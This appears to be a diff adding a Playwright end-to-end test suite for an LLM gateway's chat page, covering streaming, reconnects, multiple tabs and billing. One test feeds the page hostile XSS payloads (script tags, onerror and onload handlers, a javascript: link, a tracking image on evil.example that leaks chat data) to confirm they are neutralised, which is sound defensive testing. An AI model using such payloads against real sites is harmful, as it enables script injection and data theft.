@@ -1,0 +1,554 @@
+"""The chat page against a real gateway process, with scripted providers and the demo model."""
+
+import asyncio
+import json
+import re
+from collections.abc import AsyncIterator, Callable
+from contextlib import asynccontextmanager
+
+import pytest
+import pytest_asyncio
+from playwright.async_api import BrowserContext, Page, expect
+
+from browser.chat_page import (
+    AT_END,
+    END_TIMEOUT_MS,
+    Frames,
+    answers,
+    ask,
+    compose,
+    figures,
+    new_chat,
+    ready,
+    until,
+    until_true,
+    use_key,
+)
+from harness.accounts import PASSWORD, member
+from harness.dialects import closing, opening, token
+from harness.gateway import SERVER, Gateway, provider_entry
+from harness.providers import Exchange, ScriptedProvider, scripted_provider
+
+pytestmark = [pytest.mark.needs("chromium", "web"), pytest.mark.asyncio(loop_scope="module")]
+
+MODEL = "m-openai"
+LOST = ("Failed to load resource", "WebSocket connection")
+
+
+@pytest_asyncio.fixture(scope="module", loop_scope="module")
+async def provider() -> AsyncIterator[ScriptedProvider]:
+    async with scripted_provider() as running:
+        yield running
+
+
+@pytest_asyncio.fixture(scope="module", loop_scope="module")
+async def gateway(
+    tmp_path_factory: pytest.TempPathFactory, provider: ScriptedProvider
+) -> AsyncIterator[Gateway]:
+    running = Gateway(
+        tmp_path_factory.mktemp("chat"),
+        server={**SERVER, "orphan_timeout_s": 2},
+        providers=[provider_entry("openai", provider.url, streams_max=1)],
+        tables={
+            "limits": {"requests_per_minute": 0, "guest_connections_per_minute": 0},
+            "accounts": {"signup": "open"},
+            "billing": {"signup_credit": "5.00"},
+        },
+    )
+    await running.start()
+    await running.administer("prices", "set", MODEL, "--input", "1", "--output", "2")
+    try:
+        yield running
+        await running.stop()
+    finally:
+        await running.kill()
+
+
+class Teller:
+    """A provider's script that says what the test gives it, and ends when it is told to."""
+
+    def __init__(self, provider: ScriptedProvider) -> None:
+        self.prompt = provider.play(self)
+        self.exchange: Exchange | None = None
+        self._pieces: asyncio.Queue[str | None] = asyncio.Queue()
+
+    async def __call__(self, exchange: Exchange) -> None:
+        self.exchange = exchange
+        exchange.head()
+        for block in opening("openai"):
+            exchange.chunk(block)
+        count = 0
+        while (piece := await self._next(exchange)) is not None:
+            count += 1
+            exchange.chunk(token("openai", piece))
+        if exchange.gone.is_set():
+            return
+        for block in closing("openai", count):
+            exchange.chunk(block)
+        exchange.end()
+
+    async def _next(self, exchange: Exchange) -> str | None:
+        """Return the next piece; None at the end, or when the gateway has hung up."""
+        waiting = [
+            asyncio.ensure_future(self._pieces.get()),
+            asyncio.ensure_future(exchange.gone.wait()),
+        ]
+        await asyncio.wait(waiting, return_when=asyncio.FIRST_COMPLETED)
+        waiting[1].cancel()
+        if not waiting[0].done():
+            waiting[0].cancel()
+            return None
+        return waiting[0].result()  # type: ignore[no-any-return]
+
+    def say(self, *pieces: str) -> None:
+        for piece in pieces:
+            self._pieces.put_nowait(piece)
+
+    def end(self) -> None:
+        self._pieces.put_nowait(None)
+
+
+@pytest.fixture
+def teller(provider: ScriptedProvider) -> Teller:
+    return Teller(provider)
+
+
+@asynccontextmanager
+async def with_key(context: BrowserContext, gateway: Gateway, url: str = "") -> AsyncIterator[Page]:
+    """Open the page in a tab that has the key already."""
+    page = await context.new_page()
+    page.set_default_timeout(15_000)
+    script = f"sessionStorage.setItem('tokenferry.key', {json.dumps(gateway.key)})"
+    await page.add_init_script(script)
+    await page.goto(url or gateway.url)
+    await ready(page)
+    yield page
+    await page.close()
+
+
+async def choose_model(page: Page, name: str) -> None:
+    await page.click("#model")
+    await page.get_by_role("option", name=name).click()
+    await expect(page.locator("#model")).to_contain_text(name)
+
+
+async def begin(page: Page, teller: Teller, *pieces: str, shown: str = "") -> None:
+    """Ask for the told answer, and wait for its beginning."""
+    await choose_model(page, MODEL)
+    await ask(page, f"Tell me: {teller.prompt}")
+    teller.say(*pieces)
+    await expect(answers(page).last).to_contain_text(shown or pieces[-1].strip())
+
+
+async def server_text(gateway: Gateway) -> str:
+    """Return the text of the latest stream as the server has it."""
+    found = (await gateway.get("/v1/streams?limit=1", gateway.key)).json["data"][0]["id"]
+    stream = (await gateway.get(f"/v1/streams/{found}", gateway.key)).json
+    return str(stream["completion"]["choices"][0]["message"]["content"])
+
+
+async def test_first_visit_as_a_guest_in_korean(open_page, gateway):
+    """Works at once; one Enter of an input method sends once; token by token; figures below."""
+    page = await open_page(gateway.url, language="ko")
+    frames = Frames(page)
+    await ready(page)
+    await expect(page.locator("#model")).to_contain_text("demo")
+    await expect(page.locator("#model")).to_contain_text("$1 / $5")
+    await expect(page.locator(".visitor .who")).to_have_text("게스트 · 데모 모델")
+    await page.focus("#message")
+    await compose(page, "안녕하세요")
+    await expect(page.locator("#stop")).to_be_visible()
+    await expect(answers(page)).to_contain_text("데모 시")
+    early = len(await answers(page).text_content() or "")
+    await expect(figures(page)).to_have_text(
+        re.compile(r"^토큰 \d+개 · \$0\.00\d+ · 첫 토큰 [\d.]+(ms|초) · 전체 [\d.]+초 · demo$"),
+        timeout=END_TIMEOUT_MS,
+    )
+    assert early < len(await answers(page).text_content() or "")
+    (create,) = frames.of("create")
+    assert create["request"]["messages"] == [{"role": "user", "content": "안녕하세요"}]
+    assert create["request"]["model"] == "demo"
+    (done,) = frames.of("done")
+    assert f"토큰 {done['usage']['completion_tokens']}개" in (
+        await figures(page).text_content() or ""
+    )
+    text = "".join(chunk["choices"][0]["delta"]["content"] for chunk in frames.of("chunk"))
+    assert "**데모 시뮬레이터**" in text
+    await expect(answers(page).locator("strong").first).to_have_text("데모 시뮬레이터")
+    await expect(answers(page).locator("blockquote")).to_have_text("안녕하세요")
+    await expect(page.locator(".question")).to_have_count(1)
+    await expect(page.locator("#message")).to_have_value("")
+
+    # What a guest has is another guest's secret, and the page's reload finds it again.
+    cookies = await page.context.cookies(f"{gateway.url}/api/chat")
+    (cookie,) = [each for each in cookies if each["name"] == "tokenferry_guest"]
+    assert cookie["httpOnly"]
+    assert cookie["sameSite"] == "Strict"
+    await page.reload()
+    await expect(answers(page)).to_contain_text("데모 시뮬레이터")
+    await expect(figures(page)).to_contain_text("demo")
+
+
+async def test_a_reload_in_the_middle_of_an_answer(open_page, gateway, teller):
+    """Check 1: the final text is the server's, and only one answer was generated."""
+    context = (await open_page("about:blank")).context
+    async with with_key(context, gateway) as page:
+        frames = Frames(page)
+        await begin(page, teller, "처음 ", "**굵게(강조)**은 ", shown="굵게(강조)은")
+        await page.reload()
+        await expect(answers(page)).to_contain_text("굵게(강조)은")
+        teller.say("끝", ".")
+        teller.end()
+        await expect(figures(page)).to_contain_text("4 tokens · $0.000019", timeout=END_TIMEOUT_MS)
+        assert await server_text(gateway) == "처음 **굵게(강조)**은 끝."
+        assert await answers(page).text_content() == "처음 굵게(강조)은 끝."
+        (resume,) = frames.of("resume")
+        assert resume["after"] > 0, "it goes on from what it had"
+        assert len(frames.of("create")) == 1
+
+
+class Proxy:
+    """A TCP proxy in front of the gateway, which can be cut and mended."""
+
+    def __init__(self, target: int) -> None:
+        self._target = target
+        self._writers: set[asyncio.StreamWriter] = set()
+        self._server: asyncio.Server | None = None
+        self.port = 0
+
+    async def open(self) -> None:
+        self._server = await asyncio.start_server(self._serve, "127.0.0.1", self.port)
+        self.port = self._server.sockets[0].getsockname()[1]
+
+    async def cut(self) -> None:
+        assert self._server is not None
+        self._server.close()
+        for writer in self._writers:
+            writer.transport.abort()
+        await self._server.wait_closed()
+
+    async def _serve(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
+        far_reader, far_writer = await asyncio.open_connection("127.0.0.1", self._target)
+        self._writers |= {writer, far_writer}
+        async with asyncio.TaskGroup() as group:
+            group.create_task(self._pump(reader, far_writer))
+            group.create_task(self._pump(far_reader, writer))
+        self._writers -= {writer, far_writer}
+
+    async def _pump(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
+        try:
+            while data := await reader.read(65_536):
+                writer.write(data)
+                await writer.drain()
+        except ConnectionError:
+            writer.transport.abort()
+        finally:
+            writer.close()
+
+
+async def test_a_network_that_comes_back(open_page, gateway, teller, watch):
+    """Check 2: it says so, catches up, and nothing is missing; then Stop works (check 4)."""
+    watch.expected = LOST
+    proxy = Proxy(gateway.port)
+    await proxy.open()
+    url = f"http://127.0.0.1:{proxy.port}"
+    context = (await open_page("about:blank")).context
+    async with with_key(context, gateway, url) as page:
+        frames = Frames(page)
+        await begin(page, teller, "one ", "two ")
+        await proxy.cut()
+        phase = page.locator(".phase")
+        await expect(phase).to_have_text("Reconnecting, the answer continues on the server")
+        await expect(page.locator(".connection")).to_contain_text("Reconnecting in")
+        teller.say("three ", "four ")
+        await proxy.open()
+        await expect(answers(page)).to_have_text("one two three four ", timeout=END_TIMEOUT_MS)
+        await expect(phase).to_have_text("Caught up")
+        await expect(page.locator(".connection")).to_have_text("Connected")
+        await expect(phase).to_have_text("Answering")
+        assert [frame["after"] > 0 for frame in frames.of("resume")] == [True]
+
+        await page.click("#stop")
+        await expect(page.locator(".answer .note")).to_have_text(
+            "Stopped, billed for what was produced"
+        )
+        await expect(figures(page)).to_contain_text("· $0.0000")
+        assert teller.exchange is not None
+        await teller.exchange.until_gone()
+        shown = await answers(page).text_content()
+        teller.say("never")
+        await page.wait_for_timeout(300)
+        assert await answers(page).text_content() == shown
+        await expect(page.locator("#send")).to_be_visible()
+    await proxy.cut()
+
+
+async def test_a_second_tab_follows_and_its_stop_stops_the_provider(open_page, gateway, teller):
+    """Check 3, and the link for another device."""
+    context = (await open_page("about:blank")).context
+    async with with_key(context, gateway) as first, with_key(context, gateway) as second:
+        await begin(first, teller, "live ", "from ")
+        await second.locator(".entry .name").click()
+        await expect(answers(second)).to_have_text("live from ")
+        teller.say("here ")
+        for page in (first, second):
+            await expect(answers(page)).to_have_text("live from here ")
+        await second.click("#stop")
+        assert teller.exchange is not None
+        await teller.exchange.until_gone()
+        for page in (first, second):
+            await expect(page.locator(".answer .note")).to_contain_text("Stopped")
+        link = await first.get_by_role("link", name="Link for another device").get_attribute("href")
+        assert link is not None
+        assert re.fullmatch(r"#follow=st_\w+", link)
+
+    async with open_elsewhere(open_page, gateway, link) as device:
+        await expect(answers(device)).to_have_text("live from here ")
+        await expect(device.locator(".answer .note")).to_contain_text("Stopped")
+        assert gateway.key not in device.url
+
+
+@asynccontextmanager
+async def open_elsewhere(open_page: Callable, gateway: Gateway, link: str) -> AsyncIterator[Page]:
+    context = (await open_page("about:blank")).context
+    async with with_key(context, gateway, f"{gateway.url}/{link}") as page:
+        yield page
+
+
+async def test_the_line_is_told_in_words_and_rarely_aloud(open_page, gateway, provider, teller):
+    """Waiting in the gateway's line; at most six announcements an answer."""
+    context = (await open_page("about:blank")).context
+    ahead = Teller(provider)
+    async with with_key(context, gateway) as page:
+        await page.evaluate(
+            """() => {
+              window.said = [];
+              const status = document.querySelector("#app > [role=status]");
+              new MutationObserver(() => window.said.push(status.textContent)).observe(status, {
+                childList: true, characterData: true, subtree: true,
+              });
+            }"""
+        )
+        await begin(page, ahead, "first ")
+        async with with_key(context, gateway) as other:
+            await choose_model(other, MODEL)
+            await ask(other, f"And then {teller.prompt}")
+            await expect(other.locator(".phase")).to_contain_text("Waiting · 0 ahead")
+            ahead.end()
+            teller.say("second ")
+            await expect(answers(other)).to_have_text("second ")
+            teller.end()
+            await expect(figures(other)).to_contain_text("1 token ·")
+        await expect(figures(page)).to_contain_text("1 token ·")
+        said = await page.evaluate("window.said")
+        assert 1 <= len(said) <= 6
+        assert said[-1] == "The answer is complete."
+        assert await page.locator("#transcript").get_attribute("aria-live") is None
+
+
+async def test_scrolling_up_while_an_answer_comes(open_page, gateway, teller):
+    """Check 6."""
+    context = (await open_page("about:blank")).context
+    async with with_key(context, gateway) as page:
+        await begin(page, teller, *(f"paragraph {n}\n\n" for n in range(60)))
+        await until(page, AT_END)
+        await page.hover("#transcript")
+        await page.mouse.wheel(0, -40)
+        await expect(page.locator("#latest")).to_be_visible()
+        before = await page.evaluate("document.getElementById('transcript').scrollTop")
+        teller.say(*(f"more {n}\n\n" for n in range(20)))
+        await expect(answers(page)).to_contain_text("more 19")
+        assert await page.evaluate("document.getElementById('transcript').scrollTop") == before
+        await page.click("#latest")
+        await until(page, AT_END)
+        teller.say(*(f"again {n}\n\n" for n in range(20)))
+        await expect(answers(page)).to_contain_text("again 19")
+        await until(page, AT_END)
+        teller.end()
+        await expect(page.locator("#send")).to_be_visible()
+
+
+async def test_a_long_answer_with_code(open_page, gateway, teller):
+    """Check 7, in counts: each frame changes little, and no coloured line turns plain."""
+    context = (await open_page("about:blank")).context
+    async with with_key(context, gateway) as page:
+        await begin(
+            page,
+            teller,
+            "Here is code.\n\n```python\n",
+            "first = 1\n",
+            "second = 2\n",
+            shown="second = 2",
+        )
+        await expect(page.locator(".code-block .line > span").first).to_be_visible()
+        await page.evaluate(WATCH_LINES)
+        size = 0
+        for n in range(400):
+            line = f"def function_{n}(value):  # 값을 {n}만큼 더합니다\n    return value + {n}\n\n"
+            size += len(line)
+            teller.say(line)
+            if n % 40 == 0:
+                await asyncio.sleep(0.1)
+        text = "x" * 99
+        pieces = [f"Paragraph {n}: {text}\n\n" for n in range(600)]
+        teller.say("```\n\n", *pieces)
+        teller.end()
+        size += sum(map(len, pieces))
+        assert size > 80_000
+        await expect(figures(page)).to_be_visible(timeout=END_TIMEOUT_MS)
+        # The last of its colours come a moment after its end.
+        await until(page, "window.lines.coloured >= 790")
+        seen = await page.evaluate("window.lines")
+        assert (seen["turnedPlain"], seen["removed"]) == (0, 0)
+        # A line that has its colours is left alone: all of it drawn once and a little more.
+        assert seen["drawn"] < 3 * seen["coloured"]
+        # Of what is settled no element is ever made again.
+        assert await page.evaluate("window.firstLine.isConnected")
+        print("longest tasks (ms):", seen["tasks"])
+
+
+WATCH_LINES = """() => {
+  const seen = { turnedPlain: 0, removed: 0, coloured: 0, drawn: 0, tasks: [] };
+  window.lines = seen;
+  window.firstLine = document.querySelector(".code-block .line");
+  const known = new WeakSet(document.querySelectorAll(".code-block .line:has(> span)"));
+  const look = (line) => {
+    const isColoured = line.firstElementChild !== null;
+    if (isColoured && !known.has(line)) seen.coloured += 1;
+    if (isColoured) known.add(line);
+    else if (known.has(line)) seen.turnedPlain += 1;
+  };
+  new MutationObserver((changes) => {
+    for (const change of changes) {
+      const line = change.target.closest?.(".line");
+      if (line) look(line);
+      for (const node of change.removedNodes) {
+        if (node.nodeType !== 1) continue;
+        const inside = [node, ...node.querySelectorAll(".line")];
+        seen.removed += inside.filter((each) => known.has(each)).length;
+      }
+      for (const node of change.addedNodes) {
+        if (node.nodeType === 1 && node.classList.contains("line")) {
+          seen.drawn += 1;
+          look(node);
+        }
+      }
+    }
+  }).observe(document.querySelector(".turns"), { childList: true, subtree: true });
+  new PerformanceObserver((list) => {
+    for (const task of list.getEntries()) seen.tasks.push(Math.round(task.duration));
+    seen.tasks.sort((one, other) => other - one).splice(5);
+  }).observe({ type: "longtask" });
+}"""
+
+
+async def test_nothing_of_an_answer_is_run_or_fetched(open_page, gateway, teller, watch):
+    """Check 8: markup, scripts and remote images of an answer."""
+    page = await open_page(gateway.url)
+    await ready(page)
+    await use_key(page, gateway.key)
+    hostile = [
+        "<img src=https://evil.example/a.png onerror=alert(1)>",
+        "<script>document.title='owned'</script>",
+        "![pixel](https://evil.example/pixel.png?chat=secret)",
+        "[click](javascript:document.title='owned')",
+        '<svg onload="document.title=1"></svg>',
+        "```html\n<iframe src=https://evil.example></iframe>\n```",
+        "[good](https://good.example/x)",
+    ]
+    await begin(page, teller, *(f"{text}\n\n" for text in hostile), shown="good")
+    teller.end()
+    await expect(figures(page)).to_be_visible()
+    assert await page.locator(".answer img, .answer script, .answer iframe").count() == 0
+    links = page.locator(".answer a[href^=http]")
+    assert [await link.get_attribute("href") for link in await links.all()] == [
+        "https://evil.example/pixel.png?chat=secret",
+        "https://good.example/x",
+    ]
+    for link in await links.all():
+        assert await link.get_attribute("rel") == "noopener noreferrer"
+    assert "owned" not in await page.title()
+    # `open_page` holds that there was no foreign request and no report of the policy.
+    assert not [address for address in watch.addresses if gateway.key in address]
+
+
+async def test_an_account_uses_the_page_by_its_login(open_page, gateway, teller):
+    """A key of the account is made when it is needed; its answers are charged to it."""
+    somebody = await member(gateway, "chat@example.com")
+    page = await open_page("about:blank")
+    await page.goto(gateway.url)
+    login = """(body) => fetch("/api/sessions", {
+      method: "POST", headers: { "Content-Type": "application/json" }, body: JSON.stringify(body),
+    }).then((response) => response.status)"""
+    body = {"email": somebody.email, "password": PASSWORD}
+    assert await page.evaluate(login, body) == 201
+    await page.reload()
+    await expect(page.locator(".visitor .who")).to_have_text(somebody.email)
+    assert (await somebody.call("GET", "/api/keys")).json["data"] == []
+    await begin(page, teller, "paid ")
+    teller.end()
+    await expect(figures(page)).to_contain_text("1 token · $0.000013")
+    (key,) = (await somebody.call("GET", "/api/keys")).json["data"]
+    assert key["name"] == "Chat page"
+    async with asyncio.timeout(10):
+        # It is booked a moment after the page is told.
+        while not (requests := (await somebody.call("GET", "/api/requests")).json["data"]):
+            await asyncio.sleep(0.02)
+    (request,) = requests
+    assert (request["key"], request["cost"]) == (key["public_id"], "0.000013")
+
+    # The login ends while the page is open: the draft stays, and the way back is shown.
+    await page.fill("#message", "half a thought")
+    await page.evaluate(
+        "() => fetch('/api/sessions/current', {method: 'DELETE', body: '{}',"
+        " headers: {'Content-Type': 'application/json'}})"
+    )
+    await page.reload()
+    await expect(page.get_by_role("alert")).to_contain_text("Please log in again.")
+    await expect(page.locator(".visitor .who")).to_have_text("Guest · demo model")
+    await expect(page.locator(".entry")).to_have_count(0)
+    assert await page.evaluate(login, body) == 201
+    await page.reload()
+    await expect(page.locator(".entry")).to_have_count(1)
+    await expect(answers(page)).to_have_text("paid ")
+    await expect(page.locator("#message")).to_have_value("half a thought")
+
+
+async def test_a_key_that_is_revoked(open_page, gateway, watch):
+    watch.expected = LOST
+    page = await open_page(gateway.url)
+    await ready(page)
+    key = await gateway.create_key("to-be-revoked")
+    await use_key(page, key)
+    await gateway.revoke_key(key)
+    await ask(page, "Anybody?")
+    alert = page.get_by_role("alert")
+    await expect(alert).to_contain_text("The server does not know this key, or it was revoked.")
+    await page.get_by_role("button", name="Change the key").click()
+    await page.fill("#key", gateway.key)
+    await expect(page.locator(".visitor .who")).to_contain_text(gateway.key.split("_")[1])
+
+
+async def test_a_tab_that_does_not_come_back_ends_its_answer(open_page, gateway, teller):
+    context = (await open_page("about:blank")).context
+    async with with_key(context, gateway) as page:
+        await begin(page, teller, "some ")
+    assert teller.exchange is not None
+    await teller.exchange.until_gone()
+
+
+async def test_a_server_that_is_killed_and_comes_back(open_page, gateway, teller, watch):
+    watch.expected = LOST
+    context = (await open_page("about:blank")).context
+    async with with_key(context, gateway) as page:
+        await begin(page, teller, "saved ", "part ")
+        key = gateway.key
+        await gateway.kill()
+        await gateway.start()
+        gateway.key = key
+        alert = page.get_by_role("alert")
+        await expect(alert).to_contain_text("The answer was cut off.", timeout=END_TIMEOUT_MS)
+        await expect(alert).to_contain_text("Request ID st_")
+        assert await server_text(gateway) == await answers(page).text_content() == "saved part "
+        await new_chat(page)
+        await until_true(lambda: gateway.running)
